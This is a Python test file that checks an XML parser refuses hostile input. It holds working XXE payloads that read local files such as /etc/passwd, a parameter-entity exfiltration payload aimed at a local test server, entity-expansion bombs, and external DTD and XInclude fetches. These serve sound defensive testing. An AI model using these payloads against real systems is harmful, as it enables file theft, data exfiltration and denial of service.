"""parse_xml refuses or neutralises hostile XML (aggregator.core.xml)."""

from __future__ import annotations

import contextlib
import os
import resource
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from lxml import etree

from aggregator.core.errors import ParseError, UnsafeInputError
from aggregator.core.xml import (
    _parser_finds_doctype,
    _prolog_has_doctype,
    expand_internal_entities,
    parse_xml,
    safe_parser,
)
from aggregator.demo.peers.http_faults import FaultApp
from aggregator.demo.peers.server import PeerServer


@pytest.fixture(scope="module")
def app() -> FaultApp:
    return FaultApp()


@pytest.fixture(scope="module")
def server(app: FaultApp) -> Iterator[PeerServer]:
    with PeerServer(app) as srv:
        yield srv


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENT")
    return path


def refused(data: bytes) -> BaseException:
    """Parse and return the error; fail if the document was accepted."""
    with pytest.raises((UnsafeInputError, ParseError)) as info:
        parse_xml(data)
    return info.value


LOL = "".join(
    [
        '<!ENTITY lol "lol">',
        *(
            f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">'
            for i in range(1, 10)
        ),
    ]
)


# -- entities and DTDs ---------------------------------------------------------------------
def test_xxe_to_a_local_file_is_refused(secret: Path) -> None:
    doc = f"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret}">]>
<r>&xxe;</r>""".encode()
    err = refused(doc)
    assert isinstance(err, UnsafeInputError)
    assert "TOP-SECRET" not in str(err)


def test_xxe_through_the_bare_parser_never_reads_the_file(secret: Path) -> None:
    """Even without the DOCTYPE refusal, the parser itself does not resolve the entity."""
    doc = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret}">]><r>&xxe;</r>'.encode()
    root = etree.fromstring(doc, parser=safe_parser())
    assert "TOP-SECRET" not in etree.tostring(root).decode()
    assert "TOP-SECRET" not in "".join(str(t) for t in root.itertext())


def test_xxe_to_a_local_server_makes_no_request(server: PeerServer, app: FaultApp) -> None:
    for path in ("/dtd/xxe-entity", "/dtd/xxe-bare"):
        doc = (
            f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server.url}{path.lstrip("/")}">]><r>&x;</r>'
        ).encode()
        assert isinstance(refused(doc), UnsafeInputError)
        root = etree.fromstring(doc, parser=safe_parser())  # left unresolved, not fetched
        assert "LEAKED" not in etree.tostring(root).decode()
    assert app.hits("/dtd/xxe-entity") == 0
    assert app.hits("/dtd/xxe-bare") == 0


def test_external_dtd_is_neither_loaded_nor_accepted(server: PeerServer, app: FaultApp) -> None:
    path = "/dtd/external"
    doc = f'<!DOCTYPE r SYSTEM "{server.url}{path.lstrip("/")}"><r>&leak;</r>'.encode()
    assert isinstance(refused(doc), UnsafeInputError)
    doc = f'<!DOCTYPE r SYSTEM "{server.url}{path.lstrip("/")}"><r/>'.encode()
    assert isinstance(refused(doc), UnsafeInputError)
    etree.fromstring(doc, parser=safe_parser())  # the bare parser does not even try
    assert app.hits(path) == 0


def test_parameter_entities_are_refused(secret: Path, server: PeerServer, app: FaultApp) -> None:
    path = "/dtd/param"
    doc = f"""<!DOCTYPE r [
  <!ENTITY % file SYSTEM "file://{secret}">
  <!ENTITY % remote SYSTEM "{server.url}{path.lstrip("/")}">
  %remote;
  <!ENTITY % wrap "<!ENTITY send SYSTEM '{server.url}dtd/exfil?%file;'>">
  %wrap;
]><r>&send;</r>""".encode()
    err = refused(doc)
    assert isinstance(err, UnsafeInputError)
    assert "TOP-SECRET" not in str(err)
    assert app.hits(path) == 0
    assert app.hits("/dtd/exfil") == 0


def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize("where", ["text", "attribute"])
def test_billion_laughs_fails_fast(where: str) -> None:
    body = "<r>&lol9;</r>" if where == "text" else '<r a="&lol9;"/>'
    doc = f'<?xml version="1.0"?><!DOCTYPE r [{LOL}]>{body}'.encode()
    before = _peak_rss_mb()
    started = time.monotonic()
    assert isinstance(refused(doc), UnsafeInputError)
    assert time.monotonic() - started < 1.0
    assert _peak_rss_mb() - before < 50  # a billion "lol"s would be gigabytes


def test_quadratic_blowup_fails_fast() -> None:
    big = "A" * 100_000
    doc = (f'<!DOCTYPE r [<!ENTITY a "{big}">]><r>' + "&a;" * 50_000 + "</r>").encode()
    started = time.monotonic()
    assert isinstance(refused(doc), UnsafeInputError)
    assert time.monotonic() - started < 1.0


def test_the_bare_parser_also_stops_entity_amplification() -> None:
    """Defence in depth: libxml2's amplification limit, with entities left unresolved."""
    doc = f'<!DOCTYPE r [{LOL}]><r a="&lol9;">&lol9;</r>'.encode()
    started = time.monotonic()
    try:
        root = etree.fromstring(doc, parser=safe_parser())
    except etree.XMLSyntaxError:
        pass
    else:
        assert len(etree.tostring(root)) < 10_000
    assert time.monotonic() - started < 1.0


def test_doctype_after_comments_and_pis_is_still_refused() -> None:
    doc = b'<?xml version="1.0"?>\n<!-- c -->\n<?pi x?>\n<!DOCTYPE r>\n<r/>'
    assert isinstance(refused(doc), UnsafeInputError)


def test_doctype_in_utf16_is_refused() -> None:
    doc = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [{LOL}]><r>&lol9;</r>'
    assert isinstance(refused(doc.encode("utf-16")), UnsafeInputError)


# -- XInclude --------------------------------------------------------------------------------
def test_xinclude_is_not_processed(secret: Path) -> None:
    doc = f"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file://{secret}" parse="text"/>
</r>""".encode()
    root = parse_xml(doc)
    assert "TOP-SECRET" not in etree.tostring(root).decode()
    include = root[0]
    assert include.tag == "{http://www.w3.org/2001/XInclude}include"


def test_xinclude_to_a_server_makes_no_request(server: PeerServer, app: FaultApp) -> None:
    doc = f"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="{server.url}dtd/xinclude" parse="text"/>
</r>""".encode()
    parse_xml(doc)
    assert app.hits("/dtd/xinclude") == 0


# -- malformed input, encodings, depth -------------------------------------------------------
def test_malformed_xml_is_a_parse_error_with_the_line() -> None:
    with pytest.raises(ParseError, match="line 3"):
        parse_xml(b"<a>\n<b>\n</a>", url="http://example.org/x")
    with pytest.raises(ParseError, match=r"http://example\.org/x"):
        parse_xml(b"<a>\n<b>\n</a>", url="http://example.org/x")


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"not xml", b"<a>", b"<a></b>", b"<a>&undefined;</a>", b"\xff\xfe\x00"],
)
def test_broken_documents_are_parse_errors(data: bytes) -> None:
    with pytest.raises(ParseError):
        parse_xml(data)


def test_a_str_with_an_encoding_declaration_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse_xml('<?xml version="1.0" encoding="UTF-8"?><a/>')  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("ISO-8859-1", "café"),
        ("windows-1252", "€ café"),
        ("Shift_JIS", "日本語"),
        ("EUC-JP", "日本語"),
        ("GB2312", "中文"),
        ("KOI8-R", "привет"),
        ("UTF-16", "café ✓"),
        ("UTF-16LE", "café"),
    ],
)
def test_declared_encodings_are_decoded(encoding: str, text: str) -> None:
    declared = f'<?xml version="1.0" encoding="{encoding}"?><a t="{text}">{text}</a>'
    data = declared.encode(encoding)
    if encoding == "UTF-16LE":
        data = b"\xff\xfe" + data  # libxml2 needs a BOM or a '<' pattern; with the BOM: LE
    root = parse_xml(data)
    assert root.text == text
    assert root.get("t") == text


def test_a_byte_order_mark_is_accepted() -> None:
    assert parse_xml(b"\xef\xbb\xbf<a>x</a>").text == "x"


def test_huge_depth_is_refused() -> None:
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    started = time.monotonic()
    with pytest.raises(ParseError, match="depth"):
        parse_xml(deep)
    assert time.monotonic() - started < 1.0


def test_realistic_depth_is_fine() -> None:
    doc = b"<a>" * 200 + b"x" + b"</a>" * 200
    assert parse_xml(doc).tag == "a"


def test_namespaces_comments_and_pis_survive() -> None:
    doc = b"""<?xml version="1.0"?>
<!-- a comment -->
<?xml-stylesheet href="s.xsl"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><x/></rdf:RDF>"""
    root = parse_xml(doc)
    assert root.tag == "{http://www.w3.org/1999/02/22-rdf-syntax-ns#}RDF"
    assert root[0].sourceline == 4  # type: ignore[comparison-overlap]  # stub says Ellipsis


# -- threads --------------------------------------------------------------------------------
def test_parse_xml_is_safe_from_many_threads() -> None:
    good = [f'<r n="{i}">{"<c/>" * i}</r>'.encode() for i in range(50)]
    bad = b"<a><b></a>"
    hostile = f"<!DOCTYPE r [{LOL}]><r>&lol9;</r>".encode()
    errors: list[str] = []
    barrier = threading.Barrier(8)

    def work(seed: int) -> None:
        barrier.wait()
        for round_ in range(200):
            i = (seed * 7 + round_) % 50
            try:
                root = parse_xml(good[i])
                if root.get("n") != str(i) or len(root) != i:
                    errors.append(f"wrong tree for {i}")
            except Exception as err:
                errors.append(f"good doc {i}: {err!r}")
            try:
                parse_xml(bad if round_ % 2 else hostile)
                errors.append("a bad document was accepted")
            except (ParseError, UnsafeInputError):
                pass

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == []


def test_each_thread_gets_its_own_parser() -> None:
    parsers: list[etree.XMLParser] = []
    t = threading.Thread(target=lambda: parsers.append(safe_parser()))
    t.start()
    t.join()
    assert parsers[0] is not safe_parser()
    assert safe_parser() is safe_parser()


def _opens(path: Path, parse: Callable[[bytes], object]) -> bool:
    """True if parsing a document whose external DTD is the FIFO ``path`` opened it.

    Opening a FIFO for reading blocks until a writer appears, so a parser that touches the
    file hangs; we then open it for writing to set the parser thread free.
    """
    doc = f'<!DOCTYPE r SYSTEM "{path}"><r>&leak;</r>'.encode()

    def run() -> None:
        with contextlib.suppress(Exception):
            parse(doc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(timeout=1.0)
    if not thread.is_alive():
        return False
    with open(path, "wb") as writer:
        writer.write(b'<!ENTITY leak "LEAKED">')
    thread.join(timeout=5)
    return True


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_external_dtd_file_is_never_opened(tmp_path: Path) -> None:
    fifo = tmp_path / "external.dtd"
    os.mkfifo(fifo)
    assert not _opens(fifo, parse_xml)
    assert not _opens(fifo, lambda doc: etree.fromstring(doc, parser=safe_parser()))
    # the probe works: lxml's collect_ids=False makes libxml2 load the external subset
    leaky = etree.XMLParser(resolve_entities=False, load_dtd=False, collect_ids=False)
    assert _opens(fifo, lambda doc: etree.fromstring(doc, parser=leaky))


# -- internal string entities (expand_internal_entities, for RDF/XML) -----------------------
XSD_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [
  <!-- the usual pattern -->
  <!ENTITY xsd "http://www.w3.org/2001/XMLSchema#">
  <!ENTITY quoted 'a "b" &amp; &#38; &xsd;'>
]>
<r a="&quoted;">&xsd;date <![CDATA[&xsd;]]><!-- &xsd; --> &undeclared;</r>"""


def test_internal_string_entities_are_expanded_in_text_and_attributes() -> None:
    out = expand_internal_entities(XSD_DOCTYPE)
    assert b"DOCTYPE" not in out and b"ENTITY" not in out
    assert out.count(b"\n") == XSD_DOCTYPE.count(b"\n")  # line numbers kept
    root = etree.fromstring(out.replace(b"&undeclared;", b""), parser=safe_parser())
    assert root.get("a") == 'a "b" & & http://www.w3.org/2001/XMLSchema#'
    assert root.text == "http://www.w3.org/2001/XMLSchema#date &xsd;"  # CDATA untouched
    assert b"<!-- &xsd; -->" in out  # comments untouched
    assert b"&undeclared;" in out  # left for the parser to report


def test_a_document_without_doctype_is_returned_as_is() -> None:
    doc = b"<r>&amp;</r>"
    assert expand_internal_entities(doc) is doc


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (f"<!DOCTYPE r [{LOL}]><r>&lol9;</r>", "expansion bomb"),
        ('<!DOCTYPE r [<!ENTITY a "' + "x" * 4000 + '">]><r>' + "&a;" * 5000 + "</r>", "bomb"),
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "external entity"),
        ('<!DOCTYPE r [<!ENTITY x PUBLIC "-//x" "http://x/">]><r>&x;</r>', "external entity"),
        ('<!DOCTYPE r SYSTEM "http://127.0.0.1:1/d.dtd"><r/>', "external DTD"),
        ('<!DOCTYPE r PUBLIC "-//W3C//DTD X//EN" "x.dtd"><r/>', "external DTD"),
        ('<!DOCTYPE r [<!ENTITY % p "x">]><r/>', "parameter entity"),
        ('<!DOCTYPE r [<!ENTITY a "<b/>">]><r>&a;</r>', "markup"),
        ("<!DOCTYPE r [<!ELEMENT r ANY>]><r/>", "only internal entity declarations"),
        ('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>', "loop"),
        ("<!DOCTYPE r [" + "".join(f'<!ENTITY e{i} "x">' for i in range(65)) + "]><r/>", "64"),
    ],
)
def test_unsafe_doctypes_are_refused_with_a_clear_error(doc: str, message: str) -> None:
    started = time.monotonic()
    with pytest.raises(UnsafeInputError, match=message):
        expand_internal_entities(doc.encode())
    assert time.monotonic() - started < 1.0


def test_parse_xml_still_refuses_every_doctype() -> None:
    """Protocol responses (OAI-PMH ...) need no entities: parse_xml keeps refusing them."""
    with pytest.raises(UnsafeInputError):
        parse_xml(XSD_DOCTYPE)


# -- the DOCTYPE prescan: the byte-level fast path and the parser scan -----------------------
PROLOG_CASES = [
    # (document, DOCTYPE before the root?, decided from the bytes?)
    (b"<r/>", False, True),
    (b'<?xml version="1.0" encoding="UTF-8"?>\n<r/>', False, True),
    (b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?><r/>", False, True),
    (b"\xef\xbb\xbf<!DOCTYPE r [" + LOL.encode() + b"]><r>&lol9;</r>", True, True),
    (b'<?xml version="1.0"?>\n<!-- c -->\n<?pi x?>\n<!DOCTYPE r>\n<r/>', True, True),
    (b"<!-- <!DOCTYPE r [" + LOL.encode() + b"]> --><r>x</r>", False, True),
    (b"<?pi <!DOCTYPE r> ?><r/>", False, True),
    (b'<?xml-stylesheet href="s.xsl"?><!DOCTYPE r><r/>', True, True),
    (b"<r><!DOCTYPE r></r>", False, True),  # not a prolog DOCTYPE: the real parse fails
    (b"<\xc3\xa9t\xc3\xa9/>", False, True),
    (b"<!doctype r [" + LOL.encode() + b"]><r>&lol9;</r>", False, False),  # libxml2's view
    (b"<!DOCTYPE\tr><r/>", True, True),
    (b"<!DOCTYPEr><r/>", False, False),
    (b"<!-- unterminated <!DOCTYPE r><r/>", False, False),
    (b' <?xml version="1.0"?><!DOCTYPE r><r/>', False, False),  # misplaced declaration
    (b"<![CDATA[x]]><r/>", False, False),
    (b"", False, False),
    (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [{LOL}]><r>&lol9;</r>'.encode(
            "utf-16"
        ),
        True,
        False,
    ),
    ('<?xml version="1.0" encoding="UTF-16BE"?><!DOCTYPE r><r/>'.encode("utf-16-be"), True, False),
    (
        '<?xml version="1.0" encoding="ISO-8859-1"?><!-- é --><!DOCTYPE r><r/>'.encode("latin-1"),
        True,
        False,
    ),
    (
        '<?xml version="1.0" encoding="ISO-2022-JP"?><!-- 日本 --><!DOCTYPE r><r/>'.encode(
            "iso-2022-jp"
        ),
        True,
        False,
    ),
]


@pytest.mark.parametrize(("data", "doctype", "from_bytes"), PROLOG_CASES)
def test_the_prolog_scan_finds_every_doctype(data: bytes, doctype: bool, from_bytes: bool) -> None:
    """The byte scan decides UTF-8 prologs and leaves everything else to the parser; where it
    decides, the parser scan agrees; parse_xml refuses every DOCTYPE either way."""
    verdict = _prolog_has_doctype(data)
    assert (verdict is not None) is from_bytes
    assert _parser_finds_doctype(data) is doctype
    if verdict is not None:
        assert verdict is doctype
    if doctype:
        assert isinstance(refused(data), UnsafeInputError)
    elif data.startswith((b"<!-- <!DOCTYPE", b"<?pi <!DOCTYPE")) or b"DOCTYPE" not in data.upper():
        if data.strip() and not data.startswith((b"<![CDATA[", b"<!-- unterminated", b" ")):
            assert parse_xml(data) is not None  # only quoted in a comment or an instruction
    else:
        refused(data)  # a DOCTYPE where none is allowed, lower case or in the body: refused


def test_the_byte_scan_agrees_with_the_parser_on_the_bundled_records() -> None:
    from aggregator.demo.peers.gemini_samples import (
        bundled_gemini_records,
        generate_gemini_record,
        strip_declaration,
    )

    iso = Path(__file__).parents[1] / "aggregator" / "demo" / "peers" / "data" / "iso"
    documents = [data for _, data in bundled_gemini_records()]
    documents += [path.read_bytes() for path in sorted(iso.glob("*.xml"))]
    documents += [generate_gemini_record(i) for i in range(3)]
    for data in documents:
        body = strip_declaration(data)
        for variant in (data, b"\xef\xbb\xbf" + data, b"<!-- x -->\n<?pi?>" + body, body):
            assert _prolog_has_doctype(variant) is False
            assert _parser_finds_doctype(variant) is False
            parse_xml(variant)
        doctype = data.replace(b"<gmd:MD_Metadata", b"<!DOCTYPE x><gmd:MD_Metadata", 1)
        assert doctype != data
        assert _prolog_has_doctype(doctype) is True
        assert isinstance(refused(doctype), UnsafeInputError)
